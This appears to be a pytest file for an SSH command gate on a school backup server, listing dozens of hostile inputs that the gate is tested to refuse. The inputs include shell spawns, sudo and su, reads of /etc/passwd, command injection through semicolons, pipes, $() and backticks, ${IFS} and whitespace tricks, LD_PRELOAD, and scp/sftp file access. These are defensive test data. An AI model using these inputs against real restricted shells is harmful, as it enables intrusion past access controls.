# SPDX-License-Identifier: GPL-3.0-or-later
"""Everything that is no backup, asked of the gate. Each key says what it would gain."""

from __future__ import annotations

import pytest

from siege import Refuse

JIMS = "SHC12345678"
PUSH = "rsync --server -ltrze.iLs --timeout=160 --delete --partial . datastore-current"

COMMANDS: dict[str, str | bytes] = {
    "sh: a shell": "sh",
    "bash -i: an interactive shell": "bash -i",
    "bash --noprofile: a shell without the school's settings": "bash --noprofile --norc",
    "/bin/sh -c: any program": "/bin/sh -c id",
    "busybox sh: a shell of another name": "busybox sh",
    "su: root": "su - root",
    "sudo: root": "sudo -n id",
    "python3: a shell of another kind": "python3 -c 'import pty; pty.spawn(\"sh\")'",
    "perl: any program": "perl -e 'exec \"sh\"'",
    "id: knowledge of the server": "id",
    "cat /etc/passwd: the login names": "cat /etc/passwd",
    "true: any exit code but ours": "true",
    "exec: the gate replaced": "exec sh",
    "the gate itself: another's tree": f"gate {JIMS}",
    "the gate by its path: another's tree": f"/usr/lib/schoolserver/gate -c 'gate {JIMS}'",
    "semicolon: a second command": f"{PUSH};id",
    "semicolon after xs: a second command": "xs status;id",
    "&&: a second command": f"{PUSH} && id",
    "||: a second command": f"{PUSH} || id",
    "|: the output in a program": f"{PUSH} | sh",
    "&: a process that stays": f"{PUSH} & sleep 99",
    ">: a file of her choice": f"{PUSH} > /tmp/x",
    "<: a file of her choice read": "rsync < /etc/passwd",
    "$(): a command inside": "rsync --server -ltre.i . $(id)",
    "backticks: a command inside": "rsync --server -ltre.i . `id`",
    "${IFS}: spaces that a filter does not see": "rsync${IFS}--daemon",
    "~: a home directory": "rsync --server -ltre.i . ~root",
    "newline: a second command line": f"{PUSH}\nid",
    "newline first: our command as decoration": f"\n{PUSH}",
    "carriage return: a second command line": f"{PUSH}\rid",
    "vertical tab: a space that a filter does not see": "xs\vstatus",
    "tab: a space that a filter does not see": "xs\tstatus",
    "no-break space: a space that a shell does not see": "xs\u00a0status",
    "two spaces: an empty word": "xs  status",
    "space behind: an empty word": "xs status ",
    "single quotes: a word with a space": "rsync --server -ltre.i . 'datastore-current x'",
    "double quotes: a word with a space": 'rsync --server -ltre.i . "datastore-current"',
    "backslash: a word that is another": "rsync --server -ltre.i . datastore\\-current",
    "unclosed quote: what follows swallowed": "rsync --server -ltre.i . 'datastore-current",
    "comment: our command as decoration": "id # xs status",
    "assignment first: an environment of her choice": f"LD_PRELOAD=/x {PUSH}",
    "env: an environment of her choice": f"env RSYNC_RSH=sh {PUSH}",
    "rsync --version; id: a second command": "rsync --version; id",
    "rsync --version: knowledge of the server": "rsync --version",
    "rsync by its path: a program beside it": "/usr/bin/rsync --server -ltre.i . datastore-current",
    "rsync up a path: any program": "../../bin/rsync --server -ltre.i . datastore-current",
    "rsync as a client: the school's network": "rsync -a datastore-current/ 192.0.2.1::x",
    "rsync --daemon: a service of her making": "rsync --daemon --config=/library/x",
    "rsync --server --daemon: modules of her making": "rsync --server --daemon .",
    "scp -t: any file written": "scp -t .",
    "scp -f: any file read": "scp -f /etc/passwd",
    "sftp-server: any file": "/usr/lib/openssh/sftp-server",
    "internal-sftp: any file, inside sshd": "internal-sftp",
    "rrsync: another filter": "rrsync /",
    "git-upload-pack: any repository": "git-upload-pack '/x'",
    "an xs verb that is root's: other accounts": "xs laptop list",
    "an xs verb in capitals: a way past a list": "XS STATUS",
    "an option of xs: more than a word": "xs --json status",
    "a NUL sign in words: what follows unseen": b"xs status%00id",
    "bytes that are no text: a crash of the filter": b"xs \xff\xfe",
    "a surrogate: a crash of the log": b"xs \xed\xb3\xbf",
    "escape sequences: the technician's terminal": b"xs \x1b]0;pwned\x07",
    "a forged log line: a technician misled": "xs x\nrefused uid 0 ['gate SHC00000000']: nothing",
    "50 kB: the gate's memory": "rsync --server " + "x" * 50_000,
    "20,000 words: the gate's time": "rsync --server " + "-e " * 20_000,
    "-c as the command: an argument of the gate": "-c",
    "an empty word: the gate without a command": "",
}  # fmt: skip


@pytest.mark.parametrize("command", COMMANDS.values(), ids=COMMANDS)
def test_a_command_that_is_no_backup_is_refused(refuse: Refuse, command: str | bytes) -> None:
    assert refuse(command)
